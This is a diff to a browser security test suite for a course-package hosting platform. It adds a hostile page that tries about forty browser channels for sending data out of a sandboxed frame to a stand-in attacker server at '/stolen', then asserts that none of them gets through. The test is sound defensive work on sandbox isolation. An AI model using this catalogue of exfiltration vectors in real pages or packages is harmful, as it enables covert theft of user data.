@@ -38,10 +38,93 @@ const told = {
 }
 parent.postMessage(told, '*')
 </script>`
+
+/** Every other way out that browsers know, each with a name of its own; the page cannot see whether it led anywhere. */
+const waysOut = `<!doctype html><meta charset="utf-8"><title>课</title><body><script>
+const outside = new URLSearchParams(location.search).get('outside')
+const to = (way) => outside + '?' + way
+const add = (name, attributes, where = document.body) => {
+  const element = Object.assign(document.createElement(name), attributes)
+  where.append(element)
+  return element
+}
+const ways = {
+  windowOpen: () => open(to('windowOpen')),
+  windowOpenOpener: () => { const own = open('about:blank'); own.location = to('windowOpenOpener') },
+  formBlank: () => add('form', { method: 'post', action: to('formBlank'), target: '_blank' }).submit(),
+  formHere: () => {
+    const frame = add('iframe', { name: 'posted' })
+    add('form', { method: 'post', action: to('formHere'), target: 'posted' }).submit()
+  },
+  formTop: () => add('form', { action: to('formTop'), target: '_top' }).submit(),
+  linkBlank: () => add('a', { href: to('linkBlank'), target: '_blank' }).click(),
+  linkTop: () => add('a', { href: to('linkTop'), target: '_top' }).click(),
+  linkParent: () => add('a', { href: to('linkParent'), target: '_parent' }).click(),
+  linkPing: () => add('a', { href: '#here', ping: to('linkPing') }).click(),
+  frame: () => add('iframe', { src: to('frame') }),
+  frameInData: () => add('iframe', { src: 'data:text/html,<img src=' + to('frameInData') + '>' }),
+  frameInBlob: () => add('iframe', { src: URL.createObjectURL(new Blob(['<img src=' + to('frameInBlob') + '>'], { type: 'text/html' })) }),
+  frameInText: () => add('iframe', { srcdoc: '<meta http-equiv="refresh" content="0;url=' + to('frameInText') + '">' }),
+  object: () => add('object', { data: to('object') }),
+  embed: () => add('embed', { src: to('embed') }),
+  image: () => add('img', { src: to('image') }),
+  style: () => add('link', { rel: 'stylesheet', href: to('style') }),
+  importStyle: () => { add('style', { textContent: '@import url(' + to('importStyle') + ')' }) },
+  background: () => { document.body.style.background = 'url(' + to('background') + ')' },
+  font: () => { add('style', { textContent: '@font-face { font-family: x; src: url(' + to('font') + ') } body { font-family: x }' }); document.body.append('字') },
+  script: () => add('script', { src: to('script') }),
+  module: () => import(to('module')).catch(() => {}),
+  worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + to('worker') + '").catch(() => {}); importScripts("' + to('workerScript') + '")']))),
+  prefetch: () => add('link', { rel: 'prefetch', href: to('prefetch') }, document.head),
+  prerender: () => add('link', { rel: 'prerender', href: to('prerender') }, document.head),
+  preload: () => add('link', { rel: 'preload', as: 'image', href: to('preload') }, document.head),
+  modulePreload: () => add('link', { rel: 'modulepreload', href: to('modulePreload') }, document.head),
+  icon: () => add('link', { rel: 'icon', href: to('icon') }, document.head),
+  manifest: () => add('link', { rel: 'manifest', href: to('manifest') }, document.head),
+  speculation: () => add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')], eagerness: 'immediate' }] }) }),
+  video: () => add('video', { src: to('video'), autoplay: true, muted: true }),
+  poster: () => add('video', { poster: to('poster') }),
+  request: () => { const request = new XMLHttpRequest(); request.open('POST', to('request')); request.send('x') },
+  beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
+  socket: () => new WebSocket(to('socket').replace('http', 'ws')),
+  events: () => new EventSource(to('events')),
+  keepAlive: () => fetch(to('keepAlive'), { method: 'POST', mode: 'no-cors', keepalive: true }).catch(() => {}),
+  policyReport: () => {
+    add('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + to('policyReport') }, document.head)
+    add('img', { src: 'own.png' })
+  },
+}
+// Each of these may be the end of the page.
+const last = {
+  linkDownload: () => add('a', { href: to('linkDownload'), download: 'a.txt' }).click(),
+  mail: () => { location = 'mailto:a@example.org?body=secret' },
+  refresh: () => add('meta', { httpEquiv: 'refresh', content: '0;url=' + to('refresh') }, document.head),
+  itself: () => { location = to('itself') },
+  replaced: () => { location.replace(to('replaced')) },
+  formItself: () => add('form', { method: 'post', action: to('formItself') }).submit(),
+  linkItself: () => add('a', { href: to('linkItself') }).click(),
+}
+const only = new URLSearchParams(location.search).get('only')
+if (only) last[only]()
+else {
+  for (const way of Object.values(ways)) try { way() } catch {}
+  setTimeout(() => top.postMessage('tried ' + Object.keys(ways).length, '*'), 500)
+}
+</script>`
+const lastWays = [
+  'linkDownload',
+  'mail',
+  'refresh',
+  'itself',
+  'replaced',
+  'formItself',
+  'linkItself',
+]
 const course = packZip([
   { name: 'index.html', content: hostile },
   { name: 'helper.js', content: "window.helper = 'ran'" },
   { name: 'data.json', content: '{"fact": "own"}' },
+  { name: 'ways.html', content: waysOut },
 ])
 
 describe.skipIf(!browserPath())('S4-10 a package that means no good', () => {
@@ -49,6 +132,8 @@ describe.skipIf(!browserPath())('S4-10 a package that means no good', () => {
   let outside: Server
   const asked: string[] = []
   let opened: string
+  let content: string
+  let stolen: string
   let page: Page
   let cookie: string
   beforeAll(async () => {
@@ -73,7 +158,9 @@ describe.skipIf(!browserPath())('S4-10 a package that means no good', () => {
       headers: { cookie: `${loginCookie}=${cookie}` },
     })
     const { editions } = (await answer.json()) as { editions: { address: string }[] }
-    opened = `${editions[0]?.address}index.html?main=${site.node.url}&outside=http://127.0.0.1:${(outside.address() as AddressInfo).port}/stolen`
+    content = editions[0]?.address ?? ''
+    stolen = `http://127.0.0.1:${(outside.address() as AddressInfo).port}/stolen`
+    opened = `${content}index.html?main=${site.node.url}&outside=${stolen}`
     ;({ page } = await site.open(1280))
     const { hostname } = new URL(site.node.url)
     await page.context().addCookies([
@@ -136,6 +223,35 @@ describe.skipIf(!browserPath())('S4-10 a package that means no good', () => {
     expect(page.url()).toBe(`${site.node.url}/console/login`)
     expect(asked).toEqual([])
   })
+
+  const hold = (address: string, how: object): Promise<void> =>
+    page.evaluate(`(async () => {
+      const frame = document.createElement('iframe')
+      Object.entries(${JSON.stringify(how)}).forEach(([name, value]) => frame.setAttribute(name, value))
+      frame.src = ${JSON.stringify(address)}
+      document.body.append(frame)
+      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
+    })()`)
+
+  test('S4-10 A5 no way out of a frame leads to another host', async () => {
+    await page.goto(`${site.node.url}/console/login`)
+    const pages = page.context().pages().length
+    const tried = page.evaluate<string>(
+      `new Promise((resolve) => addEventListener('message', ({ data }) => resolve(String(data)), { once: true }))`,
+    )
+    await hold(`${content}ways.html?outside=${stolen}`, {})
+    expect(await tried).toMatch(/^tried \d\d/)
+    for (const only of lastWays) {
+      await hold(`${content}ways.html?outside=${stolen}&only=${only}`, {})
+    }
+    expect(page.context().pages().length).toBe(pages)
+    // What the same browser asks for last has come: nothing before it did.
+    const own = await page.context().newPage()
+    await own.goto(`${new URL(stolen).origin}/asked-by-us`)
+    await own.close()
+    expect(asked.splice(0).filter((path) => path !== '/favicon.ico')).toEqual(['/asked-by-us'])
+    expect(page.url()).toBe(`${site.node.url}/console/login`)
+  }, 40_000)
 
   test('the login still holds, and the content port knows none', async () => {
     const headers = { cookie: `${loginCookie}=${cookie}` }
